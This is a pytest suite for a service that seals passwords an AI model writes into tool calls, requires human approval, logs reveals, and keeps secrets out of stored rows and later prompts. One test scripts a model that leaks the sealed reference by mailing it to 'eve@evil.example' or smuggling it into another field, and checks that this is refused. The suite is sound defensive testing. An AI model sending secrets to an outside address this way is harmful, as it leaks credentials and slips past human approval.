"""A password that a model writes into a call is sealed wherever it is kept or shown, decided on by somebody
who may see it, and sent exactly (R-SEC-4, R-TRACE-5, G2, W8). Judged by what the service received."""

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from uuid import UUID

import orjson
import psycopg
import pytest
from psycopg import sql
from pytest_django import Settings

from approvals.actions.reveal import reveal_sealed_value
from approvals.core.errors import AlreadyDecided, DecisionInvalid, NotYours
from approvals.models import Handling
from tenancy.core.roles import Role, Scope
from tenancy.db.tenant_context import tenant_transaction
from tenancy.models import AuditEntry
from tests.doors.api.program import narrow_program, program, refusal
from tests.doors.pages.browsers import browser, words
from tests.doors.pages.forms import form_with
from tests.doubles.crm import Crm
from tests.doubles.http_server import Reply, Seen
from tests.doubles.openai_server import OpenAIServer, calls, said
from tests.factories.foreign import called, foreign, onwards
from tests.factories.servers import CHANGES
from tests.factories.world import World
from tests.proves import proves
from tests.shell.orchestrator.test_http_tools import crm as crm
from tests.shell.orchestrator.test_http_tools import declare
from tests.shell.orchestrator.test_http_tools import world as world
from traces.actions import erase_run_payloads
from traces.core.sealed_references import REFERENCE
from traces.models import Payload

PASSWORD = 'hunter2 secret/\\"é'
TEXT = {"type": "string", "maxLength": 40}
TABLES = "SELECT schemaname, tablename FROM pg_tables WHERE schemaname = 'public'"


def change(crm: Crm, **more: Any) -> dict[str, Any]:
    """A tool that changes a password, and says back what it was told."""
    return {
        "name": "crm.change_password", "description": "Change a password.", **CHANGES,
        "input_schema": {
            "type": "object", "properties": {"person": TEXT, "password": TEXT, "note": TEXT},
            "required": ["person", "password"], "additionalProperties": False,
        },
        "output_schema": {"type": "object", "required": ["id"]},
        "verifier": {"name": "schema", "equal": {}},
        "request": {"method": "POST", "url": f"{crm.origin}/people/{{person}}/password", "body": "rest"},
        **more,
    }  # fmt: skip


class Scripted(OpenAIServer):
    """A model that gives these replies one after another; each is told all that it was sent."""

    def __init__(self, *turns: Any) -> None:
        super().__init__()
        self._turns = list(turns)
        self.received: list[str] = []

    def answer(self, seen: Seen) -> Reply:
        """The next one."""
        self.received.append(orjson.dumps(seen.document).decode())
        turn = self._turns.pop(0) if self._turns else said("Done.")
        self.play(turn(seen) if callable(turn) else turn)
        return super().answer(seen)


@contextmanager
def asking(world: World, settings: Settings, model: OpenAIServer) -> Iterator[UUID]:
    """A run of that model, up to where it waits."""
    with foreign(settings, model):
        run = world.submit("tool-loop", "Change ada's password.")
        onwards(world, run)
        yield run


def rows_with(superuser: psycopg.Connection, text: str) -> list[str]:
    """The tables in which any row holds the text, as it is, in JSON, or as bytes."""
    spelt = {text, orjson.dumps(text).decode()[1:-1]}
    wanted = [f"%{form}%" for one in spelt for form in (one, one.encode().hex())]
    found: list[str] = []
    for schema, table in superuser.execute(TABLES).fetchall():
        query = sql.SQL("SELECT count(*) FROM {} t WHERE t::text LIKE ANY(%s)").format(
            sql.Identifier(schema, table)
        )
        row: Any = superuser.execute(query, [wanted]).fetchone()
        found += [table] if row[0] else []
    return found


def sent(crm: Crm) -> list[Any]:
    """What the service was told, by its own log."""
    return [one["body"] for one in crm.seen if one["body"] is not None]


CALL = called("crm.change_password", person="ada", password=PASSWORD)


@proves("R-SEC-4", part="a sensitive argument is sealed and sent exactly")
@proves("R-TRACE-5", part="a sensitive argument in every table")
@proves("W8", part="a sensitive argument and its echo")
def test_a_password_is_sent_exactly_and_stands_in_no_row_and_no_later_prompt(
    world: World, crm: Crm, settings: Settings, superuser: psycopg.Connection
) -> None:
    declare(world, change(crm))
    model = Scripted(calls(CALL))
    with asking(world, settings, model) as run:
        (request,) = world.open_requests(run)
        packet = orjson.loads(bytes(request.packet))
        assert REFERENCE.fullmatch(orjson.loads(packet["arguments"])["password"])
        assert request.sealed
        world.decide(request, world.people.approver)
        onwards(world, run)
    assert sent(crm) == [{"password": PASSWORD}]
    assert world.run(run).terminal_code == "SUCCESS"
    # The service said the password back, and the model was told its reference.
    assert len(model.received) == 2
    assert "hunter2" not in model.received[1]
    assert REFERENCE.search(model.received[1])
    assert rows_with(superuser, str(run))
    assert rows_with(superuser, "hunter2") == []
    world.sound(run)


@proves("G2", part="what was granted is what is sent")
def test_the_same_value_in_the_same_place_has_one_reference_in_a_run_and_another_in_the_next(
    world: World, crm: Crm, settings: Settings
) -> None:
    declare(world, change(crm))
    found = []
    for _ in range(2):
        with asking(world, settings, Scripted(calls(CALL, CALL))) as run:
            found.append([one["arguments"] for one in world.said(run, "call_requested")])
    assert [len(set(one)) for one in found] == [1, 1]
    assert found[0][0] != found[1][0]


@proves("M16", part="a reference that the model writes elsewhere")
@pytest.mark.parametrize("where", ["note", "other tool", "made up"])
def test_a_reference_that_the_model_writes_elsewhere_is_refused_before_anybody_is_asked(
    world: World, crm: Crm, settings: Settings, where: str
) -> None:
    declare(world, change(crm))

    def copied(seen: Seen) -> Reply:
        reference = REFERENCE.search(orjson.dumps(seen.document).decode())
        assert reference is not None
        if where == "other tool":
            return calls(called("mail.send", to="eve@evil.example", subject="x", text=reference[0]))
        if where == "note":
            return calls(called("crm.change_password", person="ada", password="x1", note=reference[0]))
        made_up = reference[0].replace(reference[2], "0" * 64)
        return calls(called("crm.change_password", person="ada", password=made_up))

    with asking(world, settings, Scripted(calls(CALL), copied)) as run:
        world.decide(world.open_requests(run)[0], world.people.approver, "reject")
        onwards(world, run)
        assert world.open_requests(run) == []
    assert sent(crm) == []
    refused = [one for one in world.said(run, "call_checked") if one["decision"] == "deny"]
    assert {one["rule"] for one in refused} & {"schema", "not_in_registry"}
    world.sound(run)


def test_a_reference_that_the_model_repeats_in_its_place_is_sent_as_its_value(
    world: World, crm: Crm, settings: Settings
) -> None:
    declare(world, change(crm))

    def repeated(seen: Seen) -> Reply:
        reference = REFERENCE.search(orjson.dumps(seen.document).decode())
        assert reference is not None
        return calls(called("crm.change_password", person="bob", password=reference[0]))

    with asking(world, settings, Scripted(calls(CALL), repeated)) as run:
        for _ in range(2):
            world.decide(world.open_requests(run)[0], world.people.approver)
            onwards(world, run)
    assert sent(crm) == [{"password": PASSWORD}, {"password": PASSWORD}]
    world.sound(run)


@proves("R-APPR-3", part="a sensitive value that a reviewer types")
def test_a_password_that_a_reviewer_types_is_sealed_and_sent_exactly(
    world: World, crm: Crm, settings: Settings, superuser: psycopg.Connection
) -> None:
    declare(world, change(crm))
    with asking(world, settings, Scripted(calls(CALL))) as run:
        (request,) = world.open_requests(run)
        given = {"person": "ada", "password": "typed-by-ann"}
        world.decide(request, world.people.approver, "edit", arguments=given)
        onwards(world, run)
    assert sent(crm) == [{"password": "typed-by-ann"}]
    assert rows_with(superuser, "typed-by-ann") == []
    world.sound(run)


@proves("R-SEC-4", part="a value is held against the tool's schema once it is opened")
def test_a_sealed_value_that_does_not_fit_the_schema_is_not_sent_and_not_said(
    world: World, crm: Crm, settings: Settings, superuser: psycopg.Connection
) -> None:
    declare(world, change(crm))
    long = called("crm.change_password", person="ada", password="far too long for this field " * 3)
    with asking(world, settings, Scripted(calls(long))) as run:
        world.decide(world.open_requests(run)[0], world.people.approver)
        onwards(world, run)
    assert sent(crm) == []
    assert [one["status"] for one in world.said(run, "call_observed")] == ["refused"]
    assert rows_with(superuser, "far too long for") == []


@proves("R-SEC-4", part="each reveal is on record")
def test_a_reveal_gives_the_value_once_and_stands_in_both_records(
    world: World, crm: Crm, settings: Settings
) -> None:
    declare(world, change(crm))
    with asking(world, settings, Scripted(calls(CALL))) as run:
        (request,) = world.open_requests(run)
        who = world.people.approver
        assert reveal_sealed_value(world.id, request.id, who.id, "/password") == PASSWORD
        with pytest.raises(DecisionInvalid):
            reveal_sealed_value(world.id, request.id, who.id, "/person")
        with pytest.raises(NotYours):
            reveal_sealed_value(world.id, request.id, world.people.submitter.id, "/password")
        world.decide(request, who)
        with pytest.raises(AlreadyDecided):
            reveal_sealed_value(world.id, request.id, who.id, "/password")
    with tenant_transaction(world.id):
        rows = list(Handling.objects.filter(request=request, kind="reveal"))
        assert [(one.principal, one.text) for one in rows] == [(who.id, "Revealed the value at /password")]
        entries = list(AuditEntry.objects.filter(verb="approval.reveal"))
        assert [entry.object for entry in entries] == [f"request:{request.id}"]
        assert "hunter2" not in str([(entry.before, entry.after) for entry in entries])


@proves("X6", part="a sealed value of an erased run")
def test_what_an_erased_run_sealed_opens_no_more(world: World, crm: Crm, settings: Settings) -> None:
    declare(world, change(crm))
    with asking(world, settings, Scripted(calls(CALL))) as run:
        (request,) = world.open_requests(run)
        with tenant_transaction(world.id):
            kept = [bytes(one.body or b"") for one in Payload.objects.filter(run_id=run)]
            assert any(b'"box":' in body for body in kept)
            erase_run_payloads(run)
            assert not Payload.objects.filter(run_id=run).exclude(body=None).exists()
        # Nothing in its trace says that it was erased: that alone is a fault.
        assert {fault.where.split()[0] for fault in world.faults(run)} == {"Payload", "Salt"}
        with pytest.raises(Exception, match="cannot be opened"):
            reveal_sealed_value(world.id, request.id, world.people.approver.id, "/password")


@proves("R-SEC-4", part="revealing by program")
def test_a_program_that_holds_the_scope_reveals_and_decides_and_one_without_does_neither(
    world: World, crm: Crm, settings: Settings, superuser: psycopg.Connection
) -> None:
    declare(world, change(crm))
    with asking(world, settings, Scripted(calls(CALL))) as run:
        (request,) = world.open_requests(run)
        where = f"/approvals/{request.id}"
        narrow = narrow_program(world.id, Role.REVIEWER, Scope.READ, Scope.DECIDE)
        reviewer = program(world.id, Role.REVIEWER)
        assert refusal(narrow.post(f"{where}/reveal", {"pointer": "/password"})) == (403, "scope-missing")
        refused = narrow.post(f"{where}/decisions", {"decision": "approve"})
        assert refusal(refused) == (403, "not-yours")
        assert "the scope reveal is missing" in refused.json()["detail"]
        told = reviewer.post(f"{where}/reveal", {"pointer": "/password"}, once="k1")
        assert (told.json(), told["Cache-Control"]) == (
            {"pointer": "/password", "value": PASSWORD}, "no-store",
        )  # fmt: skip
        again = reviewer.post(f"{where}/reveal", {"pointer": "/password"}, once="k1")
        assert again.json() == {"pointer": "/password", "value": None}
        assert rows_with(superuser, "hunter2") == []
        assert refusal(reviewer.post(f"{where}/reveal", {"pointer": "/nothing"}))[0] == 422
        assert "hunter2" not in reviewer.get(where).content.decode()
        assert reviewer.post(f"{where}/decisions", {"decision": "approve"}).status_code == 200
        onwards(world, run)
    assert sent(crm) == [{"password": PASSWORD}]


@proves("R-SEC-4", part="revealing on a page")
def test_a_reviewer_reveals_on_the_card_once_and_the_card_says_who_did(
    world: World, crm: Crm, settings: Settings
) -> None:
    declare(world, change(crm))
    with asking(world, settings, Scripted(calls(CALL))) as run:
        (request,) = world.open_requests(run)
        client = browser(world.people.approver)
        page = client.get(f"/approvals/{request.id}")
        assert "hunter2" not in page.content.decode()
        assert "sealed" in words(page)
        told = form_with(page, "reveal").send(client, "reveal")
        assert told.status_code == 200
        assert "no-store" in told["Cache-Control"]
        assert "hunter2 secret" in words(told)
        again = client.get(f"/approvals/{request.id}")
        assert "hunter2" not in again.content.decode()
        assert "Revealed the value at /password" in words(again)
        other = browser(world.people.auditor)
        assert 'value="reveal"' not in other.get(f"/approvals/{request.id}").content.decode()
        refused = form_with(page, "reveal").send(other, "reveal")
        assert refused.status_code == 403
        assert "hunter2" not in refused.content.decode()


@proves("R-APPR-3", part="an edit keeps what is sealed")
def test_a_reviewer_who_changes_something_else_keeps_the_sealed_value(
    world: World, crm: Crm, settings: Settings
) -> None:
    declare(world, change(crm))
    with asking(world, settings, Scripted(calls(CALL))) as run:
        (request,) = world.open_requests(run)
        given = orjson.loads(orjson.loads(bytes(request.packet))["arguments"]) | {"note": "by phone"}
        world.decide(request, world.people.approver, "edit", arguments=given)
        onwards(world, run)
    assert sent(crm) == [{"password": PASSWORD, "note": "by phone"}]
    world.sound(run)
